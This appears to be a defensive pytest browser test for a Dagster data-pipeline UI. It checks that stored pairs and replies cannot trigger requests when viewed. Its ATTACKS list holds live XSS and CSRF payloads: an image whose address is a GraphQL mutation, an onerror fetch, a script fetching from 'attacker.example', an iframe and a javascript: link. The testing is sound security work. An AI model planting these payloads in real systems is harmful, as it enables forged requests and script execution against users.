"""Pairs and replies that attack whoever looks at them: no page of the UI lets them, with and without its guard.

A run reads rows whose every text is a picture with a GraphQL mutation as its address, and whose teacher replies in
kind. Then a real browser opens the pages that show them.
"""

import json
import re
import urllib.parse
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import dagster as dg
import pytest
from dagster._core.instance.ref import InstanceRef

from dagster_project.lakehouse.lake import Lake
from tests.support.browser import browser
from tests.support.processes import run
from tests.support.profiles import small_toy
from tests.support.servers import ChatServer, completion
from tests.support.ui import Ui, serving
from tests.support.values import known

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

pytestmark = [pytest.mark.slow, pytest.mark.browser]

POOL = "gpu"
MUTATION = f'mutation{{setConcurrencyLimit(concurrencyKey:"{POOL}",limit:0)}}'
ADDRESS = f"/graphql?query={urllib.parse.quote(MUTATION)}"
MARK = "attacker.example"
ATTACKS = [
    f"![a picture]({ADDRESS})",
    f"![home](http://{MARK}/pixel.png)",
    f'<img src="{ADDRESS}"><img src=x onerror="fetch(\'{ADDRESS}\')"><script>fetch("http://{MARK}/script")</script>',
    f"[ref]: {ADDRESS}\n\n![ref] ![again][ref]",
    f"| cell |\n\n![out of the table]({ADDRESS}) |\n\n</td></table><iframe src='http://{MARK}'></iframe>",
    f"http://{MARK}/autolinked and [click](javascript:fetch('{ADDRESS}'))",
]
PAGES = [
    "raw/raw_pairs",
    "raw/quarantined_rows",
    "reflection/instruction_reflections",
    "training/original/training_pairs",
    "profile/base_students",
]


@dataclass(frozen=True, slots=True)
class Attacked:
    """A profile that was run on such rows, with Dagster's records beside it."""

    profile: Path

    def instance(self) -> dg.DagsterInstance:
        return dg.DagsterInstance.from_ref(InstanceRef.from_dir(str(self.profile.parent / "dagster")))

    def slots(self) -> int | None:
        """How many steps the pool lets run, None where nobody said."""
        with self.instance() as instance:
            keys = instance.event_log_storage.get_concurrency_keys()
            return instance.event_log_storage.get_concurrency_info(POOL).slot_count if POOL in keys else None


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    folder = tmp_path_factory.mktemp("attacked")
    rows: list[dict[str, Any]] = [
        {"instruction": f"{attack} {number}", "input": attack, "output": f"{attack} answer", "category": attack}
        for number, attack in enumerate(ATTACKS)
    ]
    rows += [{"instruction": attack} for attack in ATTACKS]  # bad ones, which are quarantined as they are
    (folder / "pairs.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    said = "\n".join(ATTACKS)

    def reply(asked: dict[str, Any], _: object) -> tuple[int, dict[str, Any]]:
        blocks = ["New Instruction", "New Answer"] if "[New Instruction]" in json.dumps(asked) else ["Better Answer"]
        parts = (f"\n\n[{block}]\n{said}\nText {number}\n[End]" for number, block in enumerate(blocks))
        return 200, completion(said + "".join(parts))

    with ChatServer(answer=reply) as server:
        teacher = {"engine": "openai", "model": "m", "base_url": server.url, "api_key_env": None}
        profile = small_toy(
            folder,
            sources=[{"name": "mine", "path": str(folder / "pairs.jsonl")}],
            max_bad_fraction=0.9,
            teachers={"bad": teacher},
            recipes={"original": {"policy": "original", "teacher": "bad", "student": "toy"}},
        )
        done = run(profile)
    assert done.returncode == 0, done.stdout + done.stderr
    assert Lake(folder / "warehouse").scalar("select count(*) from raw.raw_pairs") == len(ATTACKS)
    return Attacked(profile)


def test_no_text_of_the_run_is_told_as_markdown_or_as_a_link(attacked: Attacked) -> None:
    with attacked.instance() as instance:
        [finished] = instance.get_runs()
        events = [json.loads(dg.serialize_value(log)) for log in instance.all_logs(finished.run_id)]
    plots = r"!\[(replies|loss|histograms|scatter|bars)\]\(data:image/png;base64,[A-Za-z0-9+/]+=*\)"
    markdown = {one["md_str"] for one in _of_class("Markdown", events)}
    assert [one for one in markdown if not re.fullmatch(plots, one)] == []
    words = Counter(re.match(r"!\[(\w+)", one)[1] for one in markdown)  # type: ignore[index]
    assert words["replies"] == 2  # of each phase
    assert words["loss"] >= 1
    assert [*_of_class("Url", events), *_of_class("Notebook", events)] == []
    live = [text for name in ("description", "label", "message") for text in _under(name, events)]
    assert [text for text in live if text and MARK in text] == []
    assert ATTACKS[0][:40] in json.dumps(events)  # it is there, as text


def _under(name: str, value: Any) -> Iterator[Any]:
    """What stands under a name, at any depth."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        if key == name:
            yield inner
        yield from _under(name, inner)


def _of_class(part: str, value: Any) -> Iterator[dict[str, Any]]:
    """What Dagster stored as metadata of a kind."""
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    if isinstance(value, dict) and part in str(value.get("__class__")):
        yield value
    for one in inner:
        yield from _of_class(part, one)


@pytest.fixture(scope="module")
def window() -> Iterator["BrowserContext"]:
    with browser() as context:
        yield context


@pytest.fixture(scope="module")
def guarded(attacked: Attacked, window: "BrowserContext") -> Iterator[Ui]:
    with serving(attacked.profile) as ui:
        yield ui


@dataclass(frozen=True, slots=True)
class Seen:
    """What pages showed, and what they asked for: method, address, and what became of it."""

    text: str
    asked: list[str]


def look(window: "BrowserContext", *addresses: str, wait_for: str) -> Seen:
    """Open the pages, and on them all that can be unfolded."""
    page = window.new_page()
    asked: list[str] = []
    page.on("requestfinished", lambda one: asked.append(f"{one.method} {one.url} {known(one.response()).status}"))
    page.on("requestfailed", lambda one: asked.append(f"{one.method} {one.url} {one.failure}"))
    texts = [text for address in addresses for text in _unfolded(page, address, wait_for)]
    page.close()
    return Seen("\n".join(texts), asked)


def _unfolded(page: "Page", address: str, wait_for: str) -> Iterator[str]:
    page.goto(address)
    page.wait_for_selector(f"text={wait_for}", timeout=60_000)
    page.wait_for_timeout(500)
    yield page.inner_text("body")
    for label in ("[Show Markdown]", "[Show JSON]"):
        for link in page.get_by_text(label, exact=True).all():
            link.click()
            page.wait_for_timeout(300)
            yield page.inner_text("body")
            page.keyboard.press("Escape")
            page.wait_for_timeout(300)


@pytest.mark.parametrize("asset", PAGES)
def test_the_page_of_an_asset_shows_the_texts_and_asks_nothing_for_them(
    attacked: Attacked, guarded: Ui, window: "BrowserContext", asset: str
) -> None:
    before = attacked.slots()
    address = f"{guarded.url}/assets/{asset}"
    overview = look(window, f"{address}?view=overview", wait_for="Latest materialization")
    events = look(window, f"{address}?view=events", wait_for="dagster/row_count")
    asked = overview.asked + events.asked
    assert [one for one in asked if not one.split()[1].startswith((guarded.url, "data:", "blob:"))] == []
    assert [one for one in asked if "mutation" in one or MARK in one] == []
    assert attacked.slots() == before != 0
    assert (ATTACKS[0][:30] in events.text) == (asset != "profile/base_students")


def test_the_page_of_the_run_asks_nothing_for_them(attacked: Attacked, guarded: Ui, window: "BrowserContext") -> None:
    with attacked.instance() as instance:
        [finished] = instance.get_runs()
    seen = look(window, f"{guarded.url}/runs/{finished.run_id}", wait_for="RUN_SUCCESS")
    assert [one for one in seen.asked if "mutation" in one or MARK in one] == []


def test_what_an_asset_of_others_says_in_markdown_changes_nothing_behind_the_guard(
    attacked: Attacked, guarded: Ui, window: "BrowserContext"
) -> None:
    said = dg.AssetMaterialization(
        "foreign", description=ATTACKS[0], metadata={"told": dg.MetadataValue.md("\n\n".join(ATTACKS)), "rows": 1}
    )
    with attacked.instance() as instance:
        instance.report_runless_asset_event(said)
        instance.event_log_storage.set_concurrency_slots(POOL, 3)
    seen = look(window, f"{guarded.url}/assets/foreign?view=events", wait_for="rows")
    tried = [one for one in seen.asked if "mutation" in one]
    assert tried  # it is live Markdown
    assert {one.rpartition(" ")[2] for one in tried} == {"405"}
    assert {one.rpartition(" ")[2] for one in seen.asked if MARK in one} == {"csp"}
    assert attacked.slots() == 3
